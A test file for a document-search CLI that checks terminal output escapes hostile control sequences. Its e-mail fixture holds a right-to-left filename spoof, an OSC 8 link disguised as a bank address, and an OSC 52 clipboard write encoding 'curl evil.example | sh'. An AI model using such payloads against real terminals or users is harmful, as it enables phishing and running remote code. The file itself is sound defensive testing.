import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/daemon.js';
import { cliSuite } from './cli-env.js';

const ESC = '\x1b';
const RLO = '\u202e';
const OSC_TITLE = `${ESC}]0;pwned${'\x07'}`;
const OSC_CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${'\x07'}`;
const OSC_LINK = `${ESC}]8;;https://evil.example/${ESC}\\bank.example.com${ESC}]8;;${ESC}\\`;

/** Raw controls and bidi overrides a terminal would act on: none may reach it from a document or the server. */
const ACTING = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** An e-mail whose subject hides a right-to-left override and whose body carries OSC 0, 52 and 8 sequences. */
function hostileMail(): string {
  const subject = `=?UTF-8?B?${Buffer.from(`Quarterly invoice ${RLO}fdp.exe`).toString('base64')}?=`;
  const body = `The quarterly invoice from the lighthouse supplier. ${OSC_TITLE} Paste this: ${OSC_CLIPBOARD} and log in at ${OSC_LINK} today.`;
  return [
    'From: Supplier <billing@supplier.example>',
    'To: accounts@example.com',
    `Subject: ${subject}`,
    'Date: Tue, 3 Mar 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    body,
    '',
  ].join('\r\n');
}

/**
 * The security probe's finding 4: `docsearch search` printed terminal escape sequences from document text as they
 * were (OSC 0 window title, OSC 52 clipboard write, OSC 8 disguised links) and a U+202E from an e-mail subject.
 * Human output shows them escaped (`\x1b`, `\u202e`); --json keeps the text exact (JSON escapes controls itself).
 */
describe('terminal output shows controls and bidi overrides, never obeys them', () => {
  let env: Record<string, string>;
  cliSuite((s) => ({ env } = s));

  it('search, documents list/show and errors that quote the server are terminal-safe; --json is exact', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'docsearch-hostile-'));
    writeFileSync(join(dir, 'invoice.eml'), hostileMail());
    const up = await runCli(['upload', join(dir, 'invoice.eml'), '--project', 'mail', '--create-project', '--wait'], { env, timeoutMs: 240_000 });
    expect(up.code, up.stderr).toBe(0);

    for (const args of [['search', 'quarterly invoice lighthouse supplier'], ['search', 'quarterly invoice lighthouse supplier', '--documents'], ['documents', 'list', '--project', 'mail']]) {
      const res = await runCli(args, { env });
      expect(res.code, res.stderr).toBe(0);
      expect(res.stdout, args.join(' ')).not.toMatch(ACTING);
      expect(res.stderr, args.join(' ')).not.toMatch(ACTING);
      if (args[0] === 'search') {
        expect(res.stdout).toContain('Quarterly invoice \\u202efdp.exe');
        expect(res.stdout).toContain('\\x1b]52;c;');
        expect(res.stdout).toContain('\\x1b]0;pwned\\x07');
      }
    }

    const json = await runCli(['search', 'quarterly invoice lighthouse supplier', '--json'], { env });
    const passage = JSON.parse(json.stdout).results[0];
    expect(passage.heading).toBe(`Quarterly invoice ${RLO}fdp.exe`);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\\u001b]52;c;');

    // An error whose words come from the server, quoting what was asked for.
    const missing = await runCli(['documents', 'show', `doc_${OSC_TITLE}`], { env });
    expect(missing.code).toBe(1);
    expect(missing.stderr).not.toMatch(ACTING);
    // It does quote it, escaped: the hostile text reached the message.
    expect(missing.stderr).toContain('\\x1b]0;pwned');
  }, 300_000);
});
